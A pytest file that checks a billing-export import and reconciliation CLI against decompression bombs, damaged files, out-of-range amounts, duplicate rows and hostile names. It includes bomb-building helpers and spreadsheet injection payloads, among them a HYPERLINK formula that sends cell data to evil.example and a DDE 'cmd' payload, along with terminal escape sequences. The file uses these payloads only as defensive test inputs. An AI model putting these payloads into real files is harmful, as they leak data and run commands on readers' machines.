"""A cost export is input like any other: bounded in size and time (gzip and Parquet bombs refused
from a fraction of the file, damaged files in one line), amounts that fit the columns, negative usage
and repeated rows never silent, and hostile names shown, never run (issue #26, items 5–8) — on
SQLite and PostgreSQL where the import stores rows."""

from __future__ import annotations

import csv
import gzip
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa

from bill_exports import RESOURCE, SUBSCRIPTION, Charge, focus_csv, focus_parquet
from cli_runner import run
from db.engine import make_engine
from db.schema import bill_lines
from metering.finance.reconcile.bill import BillError, BillLimits, parse_bill_export
from metering.safe_text import formula_like

USAGE = Charge("2026-10-05", "gpt-4o-1120-Inp-glbl", "0.55", "1M Tokens", "1.375")
OUTPUT = Charge("2026-10-05", "gpt-4o-1120-Outp-glbl", "0.15", "1M Tokens", "1.65")


def _write(tmp_path: Path, name: str, content: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(content)
    return str(path)


def _stored(db: str) -> list[tuple]:
    engine = make_engine(db)
    with engine.connect() as conn:
        rows = [tuple(row) for row in conn.execute(sa.select(bill_lines.c.meter_name, bill_lines.c.cost))]
    engine.dispose()
    return rows


def gzip_bomb(decompressed_mib: int) -> bytes:
    """A FOCUS CSV.gz whose rows repeat one usage line: one gzip member per MiB of rows (a file may
    hold members one after another), about a thousand times smaller than what it inflates to."""
    text = focus_csv([USAGE]).decode("utf-8-sig")
    header, line = text.splitlines(keepends=True)[:2]
    block = gzip.compress((line * (1_048_576 // len(line))).encode(), 9)
    return gzip.compress(header.encode()) + block * decompressed_mib


def parquet_bomb(rows: int) -> bytes:
    """A FOCUS Parquet of ``rows`` identical rows: dictionary and run-length encoding make them tiny."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    one = pq.read_table(io.BytesIO(focus_parquet([USAGE])))
    chunk = pa.concat_tables([one] * 1000).combine_chunks()
    sink = io.BytesIO()
    with pq.ParquetWriter(sink, one.schema, compression="zstd") as writer:
        for _ in range(rows // 1000):
            writer.write_table(chunk, row_group_size=1_000_000)
    return sink.getvalue()


# --------------------------------------------------------------------------- bombs and damage (#26.6, #26.7)


def test_a_gzip_bomb_is_refused_in_one_line_before_any_row_is_parsed(capsys, sqlite_url, tmp_path):
    bomb = gzip_bomb(1024)  # 1 GiB of rows in about 5 MB
    assert len(bomb) < 8_000_000
    code, out, err = run(capsys, "--db", sqlite_url, "bill", "import", _write(tmp_path, "bomb.csv.gz", bomb))
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and "decompression bomb" in err and "Traceback" not in err
    assert not Path(sqlite_url.removeprefix("sqlite:///")).exists()  # refused before the database is opened


def test_gzip_limits_are_settings_and_flags(capsys, sqlite_url, tmp_path, monkeypatch):
    genuine = gzip.compress(focus_csv([USAGE, OUTPUT] * 3))  # a small genuine export
    path = _write(tmp_path, "bill.csv.gz", genuine)
    code, _, err = run(capsys, "--db", sqlite_url, "bill", "import", "--max-bytes", "1000", path)
    assert code == 2 and "more than 1,000 bytes once decompressed" in err and err.count("\n") == 1
    monkeypatch.setenv("METERING_BILL_MAX_BYTES", "1000")
    code, _, err = run(capsys, "--db", sqlite_url, "bill", "import", path)
    assert code == 2 and "more than 1,000 bytes" in err
    code, _, err = run(capsys, "--db", sqlite_url, "bill", "import", "--max-bytes", "lots", path)
    assert code == 2 and "--max-bytes: expected a whole number" in err
    # a bomb below the size limit is still a bomb; --max-ratio 0 lets a genuine, very repetitive file in
    with pytest.raises(BillError, match="expands more than 100 times"):
        parse_bill_export("bomb.csv.gz", gzip_bomb(40))
    with pytest.raises(BillError, match="more than 5 rows"):
        parse_bill_export("bomb.csv.gz", gzip_bomb(40), BillLimits(max_ratio=0, max_rows=5))


@pytest.mark.parametrize("damage", ["truncated", "garbage", "bad-utf8", "nul", "long-line"])
def test_damaged_csv_and_gzip_are_one_line(capsys, sqlite_url, tmp_path, damage):
    data = {
        "truncated": lambda: gzip.compress(focus_csv([USAGE] * 50))[:-200],
        "garbage": lambda: b"\x1f\x8b" + bytes(range(256)) * 4,
        "bad-utf8": lambda: focus_csv([USAGE]) + b'"\xff\xfe"\r\n',
        "nul": lambda: focus_csv([USAGE]).replace(b"Microsoft", b"Micro\x00soft", 1),
        "long-line": lambda: focus_csv([USAGE]) + b"x" * 1_100_000,
    }[damage]()
    code, out, err = run(capsys, "--db", sqlite_url, "bill", "import", _write(tmp_path, "bill.csv", data))
    assert code == 2 and out == "" and "Traceback" not in err
    assert err.count("\n") == 1, err


def test_a_parquet_bomb_is_refused_from_its_footer(capsys, sqlite_url, tmp_path):
    bomb = parquet_bomb(200_000)
    path = _write(tmp_path, "bomb.parquet", bomb)
    code, out, err = run(capsys, "--db", sqlite_url, "bill", "import", "--max-rows", "100000", path)
    assert code == 2 and out == "" and err.count("\n") == 1
    assert "declares 200,000 rows, more than 100,000" in err
    # the declared uncompressed size of the columns read, per row group and in all
    with pytest.raises(BillError, match=r"declares [\d,]+ bytes uncompressed, more than 100,000"):
        parse_bill_export("bomb.parquet", bomb, BillLimits(max_bytes=100_000))


@pytest.mark.parametrize("damage", ["footer", "truncated", "magic-only", "pages"])
def test_a_damaged_parquet_is_one_line(capsys, sqlite_url, tmp_path, damage):
    good = focus_parquet([USAGE, OUTPUT] * 20)
    data = {
        "footer": lambda: good[:-12] + b"\x00" * 8 + good[-4:],
        "truncated": lambda: good[: len(good) // 2],
        "magic-only": lambda: b"PAR1",
        "pages": lambda: good[:4] + bytes(len(good) // 3) + good[4 + len(good) // 3:],
    }[damage]()
    code, out, err = run(capsys, "--db", sqlite_url, "bill", "import", _write(tmp_path, "bill.parquet", data))
    assert code == 2 and out == "" and "Traceback" not in err
    assert err.count("\n") == 1 and "bill.parquet" in err, err


def test_parquet_is_read_in_batches():
    charges = [Charge("2026-10-05", "gpt-4o-1120-Inp-glbl", "0.001", "1M Tokens", f"0.{n:05d}") for n in range(1, 6001)]
    result = parse_bill_export("bill.parquet", focus_parquet(charges))
    assert result.rows_read == 6000 and len(result.lines) == 1
    assert result.lines[0].cost == sum(Decimal(c.cost) for c in charges) and result.lines[0].tokens == 6_000_000


# --------------------------------------------------------------------------- amounts (#26.8)


def test_amounts_beyond_the_columns_are_refused_per_line(capsys, db, tmp_path):
    charges = [USAGE, Charge("2026-10-05", "gpt-4o-1120-Outp-glbl", "0.15", "1M Tokens", "1E+20"),
               Charge("2026-10-06", "gpt-4o-1120-Outp-glbl", "1E+30", "1M Tokens", "1.00"),
               Charge("2026-10-07", "gpt-4o-1120-Outp-glbl", "10000000000000", "1M Tokens", "1.00")]
    code, out, err = run(capsys, "--db", db, "bill", "import", _write(tmp_path, "bill.csv", focus_csv(charges)))
    assert code == 2 and out == "" and "Traceback" not in err
    assert "line 3: cost 1E+20 is out of range" in err
    assert "line 4: quantity 1E+30 is out of range" in err
    assert "tokens" in err and "out of range" in err.splitlines()[-1]  # 1E+19 tokens: beyond BIGINT
    assert _stored(db) == []
    # lines that fit one by one but not summed
    near = [Charge("2026-10-05", "gpt-4o-1120-Inp-glbl", "1", "1M Tokens", "6000000000000000")] * 2
    near[1] = Charge("2026-10-05", "gpt-4o-1120-Inp-glbl", "2", "1M Tokens", "6000000000000000")
    code, _, err = run(capsys, "--db", db, "bill", "import", _write(tmp_path, "near.csv", focus_csv(near)))
    assert code == 2 and "the lines summed: cost 12000000000000000 is out of range" in err


def test_a_negative_usage_line_is_refused_unless_allowed_and_then_flagged(capsys, db, tmp_path):
    refund = Charge("2026-10-06", "gpt-4o-1120-Inp-glbl", "0.55", "1M Tokens", "-1000000")
    path = _write(tmp_path, "bill.csv", focus_csv([USAGE, refund]))
    code, out, err = run(capsys, "--db", db, "bill", "import", path)
    assert code == 2 and "line 3: a usage line with a negative cost (-1000000 USD" in err and "--allow-negative" in err
    assert _stored(db) == []
    code, out, err = run(capsys, "--db", db, "bill", "import", "--allow-negative", path)
    assert code == 0, err
    assert "warning: 1 usage line(s) with a negative cost or quantity imported (--allow-negative), -1000000 USD" in out
    assert "line 3" in out
    code, table, _ = run(capsys, "--db", db, "reconcile", "--month", "2026-10")
    assert code == 0 and "1 bill line(s) with a negative usage cost (-1000000.00 USD" in table
    code, text, _ = run(capsys, "--db", db, "reconcile", "--month", "2026-10", "--format", "json")
    negative = json.loads(text)["data_quality"]["negative_bill_lines"]
    assert [(n["day"], Decimal(n["billed_cost"])) for n in negative] == [("2026-10-06", Decimal(-1000000))]


def test_rows_an_export_repeats_exactly_are_refused_unless_allowed_and_then_flagged(capsys, db, tmp_path):
    rows = [USAGE, OUTPUT] + [OUTPUT] * 10  # ten exact repeats of one row
    path = _write(tmp_path, "bill.csv", focus_csv(rows))
    code, _, err = run(capsys, "--db", db, "bill", "import", path)
    assert code == 2 and "line 4: repeats line 3 exactly" in err and "… and" not in err
    assert err.count("repeats line 3") == 10 and _stored(db) == []
    code, out, err = run(capsys, "--db", db, "bill", "import", "--allow-duplicates", path)
    assert code == 0, err
    assert "warning: 10 row(s) repeating an earlier row exactly imported and summed (--allow-duplicates), 16.50 USD" in out
    assert sorted(_stored(db)) == [("gpt-4o-1120-Inp-glbl", Decimal("1.375")), ("gpt-4o-1120-Outp-glbl", Decimal("18.15"))]
    # the same usage twice with anything different (here the tags) is two lines, not a repeat
    tagged = focus_csv([OUTPUT, OUTPUT]).replace(b'"prod"', b'"test"', 1)
    assert parse_bill_export("tagged.csv", tagged).lines[0].cost == Decimal("3.30")


# --------------------------------------------------------------------------- hostile names (#26.5)

HOSTILE_ACCOUNT = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg/providers/Microsoft.CognitiveServices/accounts/"
HOSTILE = [
    Charge("2026-10-05", '=HYPERLINK("https://evil.example/?"&A1,"click")', "0.1", "1M Tokens", "0.25"),
    Charge("2026-10-05", "=1+1", "0.1", "1M Tokens", "0.25"),
    Charge("2026-10-05", "@SUM(1+1)", "0.1", "1M Tokens", "0.25"),
    Charge("2026-10-05", "gpt-4o-1120-Inp-glbl", "0.1", "1M Tokens", "0.25", resource="+cmd|' /C calc'!A0"),
    Charge("2026-10-05", "gpt-4o-1120-Inp-glbl", "0.1", "1M Tokens", "0.25", resource="-2+3"),
    Charge("2026-10-05", "gpt-4o-1120-Inp-glbl", "0.1", "1M Tokens", "0.25",
           resource=HOSTILE_ACCOUNT + "aoai-\x1b]0;pwned\x07\x1b[2J"),
    Charge("2026-10-05", "meter-\x1b[31mred\x9b", "0.1", "1M Tokens", "0.25"),
]


@pytest.fixture
def hostile_db(capsys, db, tmp_path):
    code, out, err = run(capsys, "--db", db, "bill", "import", _write(tmp_path, "bill.csv", focus_csv(HOSTILE)))
    assert code == 0, err
    assert "\x1b" not in out and "\x9b" not in out and "\\x1b[31mred" in out  # the summary, escaped
    return db


def test_reconcile_csv_has_no_formula_and_numbers_stay_numbers(capsys, hostile_db, tmp_path):
    output = tmp_path / "r.csv"
    assert run(capsys, "--db", hostile_db, "reconcile", "--month", "2026-10", "--output", str(output))[0] == 0
    rows = list(csv.DictReader(io.StringIO(output.read_text())))
    cells = [value for row in rows for value in row.values()]
    assert not [value for value in cells if formula_like(value)]
    assert any(row["meter"] == "'=1+1 (unknown meter)" for row in rows)
    assert any(row["resource"] == "'+cmd|' /c calc'!a0" for row in rows)
    negative = [row for row in rows if row["difference"].startswith("-")]  # numbers are never quoted
    assert all(Decimal(row["billed_cost"]) >= 0 for row in rows) and not [r for r in negative if "'" in r["difference"]]


def test_reconcile_xlsx_has_no_formula_survives_escapes_and_keeps_numbers(capsys, hostile_db, tmp_path):
    from openpyxl import load_workbook

    output = tmp_path / "r.xlsx"
    code, _, err = run(capsys, "--db", hostile_db, "reconcile", "--month", "2026-10", "--output", str(output))
    assert code == 0, err  # an ESC in a resource id no longer raises IllegalCharacterError
    book = load_workbook(output)
    sheet = book["Reconciliation"]
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [c for c in texts if c.data_type == "f"]
    assert all(c.quotePrefix for c in texts if formula_like(c.value))
    assert any("aoai-\\x1b]0;pwned\\x07" in c.value for c in texts)
    header = [c.value for c in sheet[1]]
    for name in ("billed_cost", "metered_cost", "billed_unit_price", "billed_quantity"):
        values = [row[header.index(name)] for row in sheet.iter_rows(min_row=2)]
        assert any(c.value is not None for c in values)
        assert all(isinstance(c.value, (int, float)) for c in values if c.value is not None), name


def test_reconcile_table_and_html_show_names_escaped(capsys, hostile_db):
    code, table, _ = run(capsys, "--db", hostile_db, "reconcile", "--month", "2026-10")
    assert code == 0 and "\x1b" not in table and "\x9b" not in table and "\x07" not in table
    assert "aoai-\\x1b]0;pwned\\x07\\x1b[2j" in table  # (resource ids are stored lower-case)
    code, html, _ = run(capsys, "--db", hostile_db, "reconcile", "--month", "2026-10", "--format", "html")
    assert code == 0 and '=HYPERLINK("' not in html and "=HYPERLINK(&quot;https://evil.example" in html


def test_a_bidirectional_override_cannot_reorder_a_terminal_line(capsys, sqlite_url, tmp_path):
    """U+202E in a meter name would show the amounts after it reversed: it is shown escaped."""
    from metering.safe_text import terminal_line

    assert terminal_line("aoai-\u202e01.0 DSU") == "aoai-\\u202e01.0 DSU"
    assert terminal_line("café – ok") == "café – ok"
    odd = Charge("2026-10-05", "gpt-\u202e4o\u2066-meter", "0.1", "1M Tokens", "0.25")
    assert run(capsys, "--db", sqlite_url, "db", "upgrade")[0] == 0
    code, out, err = run(capsys, "--db", sqlite_url, "bill", "import", _write(tmp_path, "bill.csv", focus_csv([odd])))
    assert code == 0, err
    assert "\u202e" not in out and "gpt-\\u202e4o\\u2066-meter" in out
